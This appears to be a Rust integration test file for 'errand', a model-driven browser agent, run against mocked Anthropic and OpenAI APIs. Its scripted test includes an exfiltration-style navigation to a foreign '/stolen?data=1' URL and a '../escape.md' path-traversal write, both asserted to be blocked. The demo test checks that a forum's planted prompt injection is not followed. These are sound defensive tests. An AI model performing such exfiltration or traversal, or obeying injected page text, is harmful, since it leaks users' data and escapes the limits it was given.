@@ -1,0 +1,396 @@
+//! `errand run` as a user runs it: the real binary, a real Chromium on the fixture site,
+//! and the model vendors mocked at the HTTP level (wiremock) speaking their real wire
+//! formats, Anthropic Messages and OpenAI Chat Completions.
+
+use std::collections::VecDeque;
+use std::path::{Path, PathBuf};
+use std::sync::Mutex;
+use std::time::Duration;
+
+use fixtures::Site;
+use serde_json::{json, Value};
+use wiremock::matchers::{method, path};
+use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate};
+
+/// Answers with the next scripted response, in order.
+struct Seq(Mutex<VecDeque<ResponseTemplate>>);
+
+impl Respond for Seq {
+    fn respond(&self, _: &Request) -> ResponseTemplate {
+        self.0.lock().unwrap().pop_front().unwrap_or_else(|| ResponseTemplate::new(400).set_body_string("the test's script ran out"))
+    }
+}
+
+async fn vendor(route: &str, responses: Vec<ResponseTemplate>) -> MockServer {
+    let server = MockServer::start().await;
+    Mock::given(method("POST")).and(path(route)).respond_with(Seq(Mutex::new(responses.into()))).mount(&server).await;
+    server
+}
+
+struct Dirs {
+    _tmp: tempfile::TempDir,
+    out: PathBuf,
+    rec: PathBuf,
+    root: PathBuf,
+}
+
+fn dirs() -> Dirs {
+    let t = tempfile::tempdir().unwrap();
+    let root = t.path().to_path_buf();
+    Dirs { out: root.join("out"), rec: root.join("rec"), root, _tmp: t }
+}
+
+fn errand(d: &Dirs, args: &[&str], env: &[(&str, &str)]) -> tokio::process::Command {
+    let mut c = tokio::process::Command::new(env!("CARGO_BIN_EXE_errand"));
+    c.arg("run").args(args).arg("--out").arg(&d.out).arg("--record-dir").arg(&d.rec);
+    c.env("ERRAND_ALLOWLIST", d.root.join("allowlist.toml")).env("ERRAND_RETRY_BASE_MS", "10");
+    for k in ["ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL", "OPENAI_API_KEY", "OPENAI_BASE_URL"] {
+        c.env_remove(k);
+    }
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    c.stdin(std::process::Stdio::null()).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).kill_on_drop(true);
+    c
+}
+
+struct Ran {
+    code: i32,
+    stdout: String,
+    stderr: String,
+}
+
+async fn run(mut c: tokio::process::Command) -> Ran {
+    let o = tokio::time::timeout(Duration::from_secs(120), c.output()).await.expect("errand finishes").expect("errand runs");
+    Ran { code: o.status.code().unwrap_or(-1), stdout: String::from_utf8_lossy(&o.stdout).into(), stderr: String::from_utf8_lossy(&o.stderr).into() }
+}
+
+/// The one recording under a record dir, as parsed lines.
+fn recording(rec: &Path) -> (PathBuf, Vec<Value>) {
+    let dir = std::fs::read_dir(rec).expect("a recording").next().expect("one recording").unwrap().path();
+    let text = std::fs::read_to_string(dir.join("session.jsonl")).unwrap();
+    (dir, text.lines().map(|l| serde_json::from_str(l).expect("each line is JSON")).collect())
+}
+
+fn all_text(dir: &Path) -> String {
+    let mut s = String::new();
+    for e in std::fs::read_dir(dir).unwrap() {
+        let p = e.unwrap().path();
+        if p.is_dir() {
+            s.push_str(&all_text(&p));
+        } else {
+            s.push_str(&String::from_utf8_lossy(&std::fs::read(&p).unwrap()));
+        }
+    }
+    s
+}
+
+fn claude(text: &str, calls: &[(&str, &str, Value)]) -> ResponseTemplate {
+    let mut content = vec![json!({"type": "text", "text": text})];
+    for (id, name, input) in calls {
+        content.push(json!({"type": "tool_use", "id": id, "name": name, "input": input}));
+    }
+    ResponseTemplate::new(200).set_body_json(json!({
+        "id": "msg_test", "type": "message", "role": "assistant", "model": "claude-test",
+        "content": content, "stop_reason": "tool_use", "stop_sequence": null,
+        "usage": {"input_tokens": 1000, "output_tokens": 50, "cache_read_input_tokens": 800, "cache_creation_input_tokens": 0}
+    }))
+}
+
+fn anthropic_error(status: u16, kind: &str, message: &str) -> ResponseTemplate {
+    ResponseTemplate::new(status).set_body_json(json!({"type": "error", "error": {"type": kind, "message": message}}))
+}
+
+fn body(r: &Request) -> Value {
+    serde_json::from_slice(&r.body).expect("the request body is JSON")
+}
+
+#[tokio::test]
+async fn anthropic_drives_a_multi_step_run_in_its_wire_format() {
+    let site = Site::start().await;
+    let d = dirs();
+    let server = vendor(
+        "/v1/messages",
+        vec![
+            anthropic_error(429, "rate_limit_error", "Number of requests has exceeded your rate limit").insert_header("retry-after", "0"),
+            claude("I will search the library for otters.", &[("toolu_1", "type", json!({"selector": "#q", "text": "otters", "submit": true}))]),
+            anthropic_error(529, "overloaded_error", "Overloaded"),
+            claude("Flying there.", &[("toolu_fly", "fly", json!({"to": "the moon"}))]),
+            claude("Opening the otter article.", &[("toolu_2", "click", json!({"text": "Eurasian otters"}))]),
+            claude("Reading the article and its table.", &[("toolu_3", "extract", json!({})), ("toolu_4", "extract_table", json!({}))]),
+            claude("Writing the report.", &[("toolu_5", "write_file", json!({"path": "otters.md", "content": "# Otters\n\nAdults weigh 7–12 kg [1].\n"}))]),
+            claude("All done.", &[("toolu_6", "done", json!({"summary": "Wrote otters.md"}))]),
+        ],
+    )
+    .await;
+    let r = run(errand(
+        &d,
+        &["Find how much an otter weighs", "--start", &site.url("/library.html"), "--model", "anthropic:claude-test"],
+        &[("ANTHROPIC_API_KEY", "sk-ant-test-secret"), ("ANTHROPIC_BASE_URL", &server.uri())],
+    ))
+    .await;
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let reqs = server.received_requests().await.unwrap();
+    assert_eq!(reqs.len(), 8, "6 turns, one rate-limit retry, one overload retry");
+    // Headers and the stable, cached prefix.
+    let first = &reqs[0];
+    assert_eq!(first.headers.get("x-api-key").unwrap(), "sk-ant-test-secret");
+    assert_eq!(first.headers.get("anthropic-version").unwrap(), "2023-06-01");
+    let b0 = body(first);
+    assert_eq!(b0["model"], "claude-test");
+    assert!(b0["max_tokens"].as_u64().unwrap() > 0);
+    assert_eq!(b0["system"][0]["cache_control"]["type"], "ephemeral");
+    assert!(b0["system"][0]["text"].as_str().unwrap().contains("untrusted"));
+    let tools = b0["tools"].as_array().unwrap();
+    let names: Vec<&str> = tools.iter().map(|t| t["name"].as_str().unwrap()).collect();
+    for n in ["navigate", "click", "type", "select", "press", "scroll", "back", "forward", "tab_new", "tab_switch", "tab_close", "wait", "extract", "extract_table", "screenshot", "write_file", "done"] {
+        assert!(names.contains(&n), "tool {n} missing: {names:?}");
+    }
+    assert!(tools.iter().all(|t| t["input_schema"]["type"] == "object" && t["description"].as_str().is_some_and(|s| !s.is_empty())));
+    assert_eq!(tools.last().unwrap()["cache_control"]["type"], "ephemeral");
+    let opening = b0["messages"][0]["content"][0]["text"].as_str().unwrap();
+    assert!(opening.contains("Find how much an otter weighs") && opening.contains("<page_state") && opening.contains("River Library"), "{opening}");
+    // Retries repeat the same request.
+    assert_eq!(body(&reqs[1]), b0);
+    assert_eq!(body(&reqs[3]), body(&reqs[2]));
+    // The unknown tool goes back as an error result paired with its id; the run goes on.
+    let b4 = body(&reqs[4]);
+    let last = b4["messages"].as_array().unwrap().last().unwrap().clone();
+    assert_eq!(last["role"], "user");
+    assert_eq!(last["content"][0]["type"], "tool_result");
+    assert_eq!(last["content"][0]["tool_use_id"], "toolu_fly");
+    assert_eq!(last["content"][0]["is_error"], true);
+    assert!(last["content"][0]["content"][0]["text"].as_str().unwrap().contains("there is no tool \"fly\""));
+    // Two calls in one turn: two results, in order, in one user message.
+    let b6 = body(&reqs[6]);
+    let msgs = b6["messages"].as_array().unwrap();
+    let asst = &msgs[msgs.len() - 2];
+    assert_eq!(asst["role"], "assistant");
+    assert_eq!(asst["content"][1]["id"], "toolu_3");
+    assert_eq!(asst["content"][2]["id"], "toolu_4");
+    let res = &msgs[msgs.len() - 1]["content"];
+    assert_eq!((res[0]["tool_use_id"].as_str(), res[1]["tool_use_id"].as_str()), (Some("toolu_3"), Some("toolu_4")));
+    let extract = res[0]["content"][0]["text"].as_str().unwrap();
+    assert!(extract.contains("extract [1]") && extract.contains("<page_content") && extract.contains("7 and 12 kilograms"), "{extract}");
+    let table = res[1]["content"][0]["text"].as_str().unwrap();
+    assert!(table.contains("\"Weight\",\"7–12 kg\""), "{table}");
+    // The newest turn is cached too, and only the newest page state is shown in full.
+    assert_eq!(res[1]["cache_control"]["type"], "ephemeral");
+    let text6 = String::from_utf8_lossy(&reqs[6].body).to_string();
+    assert_eq!(text6.matches("<page_state note=").count(), 1, "older page states are condensed");
+    assert!(text6.contains("<page_state omitted"));
+    // Outputs with provenance.
+    assert_eq!(std::fs::read_to_string(d.out.join("otters.md")).unwrap(), "# Otters\n\nAdults weigh 7–12 kg [1].\n");
+    let sources: Value = serde_json::from_str(&std::fs::read_to_string(d.out.join("sources.json")).unwrap()).unwrap();
+    assert_eq!(sources["files"][0]["file"], "otters.md");
+    assert!(sources["files"][0]["sources"][0]["url"].as_str().unwrap().ends_with("/articles/otters.html"));
+    // Narration: intent, action and outcome per step; the retries; a summary.
+    assert!(r.stderr.contains("I will search the library for otters."), "{}", r.stderr);
+    assert!(r.stderr.contains("type into selector \"#q\""), "{}", r.stderr);
+    assert!(r.stderr.contains("rate limiting") && r.stderr.contains("retrying"), "{}", r.stderr);
+    assert!(r.stderr.contains("tokens: 10800 in (4800 read from cache), 300 out"), "{}", r.stderr);
+    // The recording: complete, ends with the outcome, and never holds the API key.
+    let (dir, lines) = recording(&d.rec);
+    assert_eq!(lines.first().unwrap()["type"], "session_start");
+    assert_eq!(lines.last().unwrap()["type"], "session_end");
+    assert_eq!(lines.last().unwrap()["outcome"], "done");
+    assert_eq!(lines.iter().filter(|l| l["type"] == "step").count(), 7);
+    assert!(lines.iter().any(|l| l["type"] == "extract" && l["url"].as_str().unwrap().ends_with("/articles/otters.html")));
+    assert!(!all_text(&dir).contains("sk-ant-test-secret"));
+}
+
+fn gpt(calls: &[(&str, &str, &str)]) -> ResponseTemplate {
+    let tool_calls: Vec<Value> = calls.iter().map(|(id, name, args)| json!({"id": id, "type": "function", "function": {"name": name, "arguments": args}})).collect();
+    ResponseTemplate::new(200).set_body_json(json!({
+        "id": "chatcmpl-test", "object": "chat.completion", "created": 1, "model": "gpt-test",
+        "choices": [{"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": tool_calls}, "finish_reason": "tool_calls"}],
+        "usage": {"prompt_tokens": 500, "completion_tokens": 20, "total_tokens": 520}
+    }))
+}
+
+#[tokio::test]
+async fn openai_compatible_servers_drive_a_run_in_their_wire_format() {
+    let site = Site::start().await;
+    let d = dirs();
+    let otters = site.url("/articles/otters.html");
+    let server = vendor(
+        "/v1/chat/completions",
+        vec![
+            gpt(&[("call_bad", "navigate", &format!("{{\"url\": \"{otters}\""))]),
+            gpt(&[("call_1", "navigate", &json!({"url": otters}).to_string())]),
+            ResponseTemplate::new(500).set_body_json(json!({"error": {"message": "The server had an error", "type": "server_error"}})),
+            gpt(&[("call_2", "screenshot", "{}")]),
+            gpt(&[("call_3", "done", "{\"summary\": \"looked at otters\"}")]),
+        ],
+    )
+    .await;
+    let base = format!("{}/v1", server.uri());
+    let r = run(errand(
+        &d,
+        &["Look at the otter page", "--start", &site.url("/library.html"), "--model", "openai:gpt-test", "--json"],
+        &[("OPENAI_API_KEY", "sk-openai-test-secret"), ("OPENAI_BASE_URL", &base)],
+    ))
+    .await;
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let reqs = server.received_requests().await.unwrap();
+    assert_eq!(reqs.len(), 5);
+    assert_eq!(reqs[0].headers.get("authorization").unwrap(), "Bearer sk-openai-test-secret");
+    let b0 = body(&reqs[0]);
+    assert_eq!(b0["model"], "gpt-test");
+    assert_eq!(b0["messages"][0]["role"], "system");
+    assert_eq!(b0["messages"][1]["role"], "user");
+    let t = b0["tools"].as_array().unwrap();
+    assert!(t.iter().all(|t| t["type"] == "function" && t["function"]["parameters"]["type"] == "object"));
+    // Arguments that are not JSON come back as an error tool message for that call.
+    let b1 = body(&reqs[1]);
+    let m = b1["messages"].as_array().unwrap();
+    assert_eq!(m[m.len() - 2]["tool_calls"][0]["id"], "call_bad");
+    assert_eq!(m[m.len() - 1]["role"], "tool");
+    assert_eq!(m[m.len() - 1]["tool_call_id"], "call_bad");
+    assert!(m[m.len() - 1]["content"].as_str().unwrap().contains("not valid JSON"));
+    // After the 500, the same request again.
+    assert_eq!(body(&reqs[3]), body(&reqs[2]));
+    // The screenshot follows its tool message as an image the model can see.
+    let b4 = body(&reqs[4]);
+    let m = b4["messages"].as_array().unwrap();
+    let img = m.last().unwrap();
+    assert_eq!(img["role"], "user");
+    assert!(img["content"][1]["image_url"]["url"].as_str().unwrap().starts_with("data:image/png;base64,"));
+    assert_eq!(m[m.len() - 2]["tool_call_id"], "call_2");
+    // --json: machine-readable events on stdout, one per line.
+    let events: Vec<Value> = r.stdout.lines().map(|l| serde_json::from_str(l).expect("JSON Lines")).collect();
+    assert_eq!(events.first().unwrap()["event"], "start");
+    assert_eq!(events.iter().filter(|e| e["event"] == "step").count(), 4);
+    let end = events.last().unwrap();
+    assert_eq!((end["event"].as_str(), end["outcome"].as_str()), (Some("end"), Some("done")));
+    assert!(!all_text(&d.rec).contains("sk-openai-test-secret"));
+}
+
+#[tokio::test]
+async fn a_context_length_error_stops_the_run_with_a_clear_message() {
+    let site = Site::start().await;
+    let d = dirs();
+    let server = vendor("/v1/messages", vec![anthropic_error(400, "invalid_request_error", "prompt is too long: 250000 tokens > 200000 maximum")]).await;
+    let r = run(errand(
+        &d,
+        &["Anything", "--start", &site.url("/library.html"), "--model", "anthropic:claude-test"],
+        &[("ANTHROPIC_API_KEY", "k"), ("ANTHROPIC_BASE_URL", &server.uri())],
+    ))
+    .await;
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    assert_eq!(server.received_requests().await.unwrap().len(), 1, "not retried");
+    assert!(r.stderr.contains("the conversation is too long for the model"), "{}", r.stderr);
+    let (_, lines) = recording(&d.rec);
+    assert_eq!(lines.last().unwrap()["outcome"], "failed");
+}
+
+#[tokio::test]
+async fn ctrl_c_mid_run_closes_the_browser_and_finalises_the_recording() {
+    let site = Site::start().await;
+    let d = dirs();
+    let server = MockServer::start().await;
+    // The model takes its time: errand is interrupted while it waits.
+    Mock::given(method("POST")).and(path("/v1/messages")).respond_with(claude("x", &[]).set_delay(Duration::from_secs(60))).mount(&server).await;
+    let mut c = errand(
+        &d,
+        &["Anything", "--start", &site.url("/library.html"), "--model", "anthropic:claude-test", "--json"],
+        &[("ANTHROPIC_API_KEY", "k"), ("ANTHROPIC_BASE_URL", &server.uri())],
+    );
+    let child = c.spawn().unwrap();
+    let pid = child.id().unwrap();
+    for _ in 0..300 {
+        if !server.received_requests().await.unwrap().is_empty() {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    assert!(!server.received_requests().await.unwrap().is_empty(), "errand asked the model");
+    let st = std::process::Command::new("kill").args(["-INT", &pid.to_string()]).status().unwrap();
+    assert!(st.success());
+    let o = tokio::time::timeout(Duration::from_secs(30), child.wait_with_output()).await.expect("errand stops on Ctrl-C").unwrap();
+    assert_eq!(o.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&o.stderr);
+    assert!(stderr.contains("aborted"), "{stderr}");
+    let (_, lines) = recording(&d.rec);
+    let end = lines.last().unwrap();
+    assert_eq!((end["type"].as_str(), end["outcome"].as_str()), (Some("session_end"), Some("aborted")));
+    // The browser errand launched is gone with it.
+    let stdout = String::from_utf8_lossy(&o.stdout);
+    let browser: Value = stdout.lines().filter_map(|l| serde_json::from_str::<Value>(l).ok()).find(|e| e["event"] == "browser").expect("a browser event");
+    let chromium = browser["pid"].as_u64().expect("the browser's pid");
+    let alive = std::fs::read_to_string(format!("/proc/{chromium}/stat")).map(|s| !s.contains(") Z ")).unwrap_or(false);
+    assert!(!alive, "Chromium {chromium} is still running");
+}
+
+#[tokio::test]
+async fn a_script_fills_a_search_form_follows_a_result_extracts_and_writes_a_file() {
+    let site = Site::start().await;
+    let d = dirs();
+    let script = d.root.join("script.json");
+    std::fs::create_dir_all(&d.root).unwrap();
+    std::fs::write(
+        &script,
+        json!([
+            {"tool": "type", "args": {"selector": "#q", "text": "otter", "submit": true}},
+            {"tool": "click", "args": {"text": "Eurasian otters"}},
+            {"tool": "extract"},
+            {"tool": "navigate", "args": {"url": format!("{}/stolen?data=1", site.foreign)}},
+            {"tool": "write_file", "args": {"path": "notes/otters.md", "content": "Otters weigh 7–12 kg [1]."}},
+            {"tool": "write_file", "args": {"path": "../escape.md", "content": "no"}},
+            {"tool": "done", "args": {"summary": "noted"}}
+        ])
+        .to_string(),
+    )
+    .unwrap();
+    let r = run(errand(&d, &["Note what otters weigh", "--start", &site.url("/library.html"), "--model", &format!("script:{}", script.display()), "--json"], &[])).await;
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    // The GET search form was submitted and the result followed.
+    let log = site.requests();
+    assert!(log.iter().any(|l| l.method == "GET" && l.path == "/search" && l.query == "q=otter"), "{log:?}");
+    assert!(log.iter().any(|l| l.path == "/articles/otters.html"));
+    assert_eq!(std::fs::read_to_string(d.out.join("notes/otters.md")).unwrap(), "Otters weigh 7–12 kg [1].");
+    assert!(!d.root.join("escape.md").exists());
+    // The off-allowlist navigation was refused, narrated and never sent.
+    assert!(site.foreign_log.lock().unwrap().is_empty());
+    assert!(r.stderr.contains("blocked: 127.0.0.2"), "{}", r.stderr);
+    assert!(r.stderr.contains("goes up with .."), "{}", r.stderr);
+    let steps: Vec<Value> = r.stdout.lines().filter_map(|l| serde_json::from_str::<Value>(l).ok()).filter(|e| e["event"] == "step").collect();
+    assert_eq!(steps.len(), 7);
+}
+
+#[tokio::test]
+async fn bad_input_exits_2_and_starts_nothing() {
+    let d = dirs();
+    let r = run(errand(&d, &["x", "--model", "parrot:1"], &[])).await;
+    assert_eq!(r.code, 2);
+    assert!(r.stderr.contains("unknown --model \"parrot:1\""), "{}", r.stderr);
+    let r = run(errand(&d, &["x", "--model", "anthropic:claude-test"], &[])).await;
+    assert_eq!(r.code, 2);
+    assert!(r.stderr.contains("needs ANTHROPIC_API_KEY"), "{}", r.stderr);
+    std::fs::create_dir_all(&d.root).unwrap();
+    std::fs::write(d.root.join("allowlist.toml"), "allow = [\"*.com\"]\n").unwrap();
+    let r = run(errand(&d, &["x", "--model", "builtin"], &[])).await;
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(r.stderr.contains("allowlist.toml:1:10: \"*.com\" would allow every site"), "{}", r.stderr);
+    assert!(!d.rec.exists() && !d.out.exists(), "nothing was created");
+}
+
+#[tokio::test]
+async fn the_demo_researches_the_bundled_site_into_cited_files() {
+    let d = dirs();
+    let mut c = tokio::process::Command::new(env!("CARGO_BIN_EXE_errand"));
+    c.arg("demo").arg("--out").arg(&d.out).arg("--record-dir").arg(&d.rec).kill_on_drop(true);
+    let o = tokio::time::timeout(Duration::from_secs(120), c.output()).await.unwrap().unwrap();
+    let stderr = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(0), "{stderr}");
+    let report = std::fs::read_to_string(d.out.join("report.md")).unwrap();
+    // The costs page's figures, cited, and a source list that resolves the citations.
+    assert!(report.contains("8,000 to 14,000 euros") && report.contains("## Sources"), "{report}");
+    let n = report.lines().find(|l| l.contains("What a heat pump costs") && l.starts_with('[')).expect("the costs page is a source");
+    assert!(n.contains("/articles/costs.html"));
+    // The forum's injection is not followed, and the foreign partner link never opened.
+    assert!(!report.to_lowercase().contains("ignore"));
+    assert_eq!(std::fs::read_to_string(d.out.join("table.csv")).unwrap().lines().next(), Some("System,Installed price (EUR),Annual running cost (EUR)"));
+    let (_, lines) = recording(&d.rec);
+    assert_eq!(lines.last().unwrap()["outcome"], "done");
+}
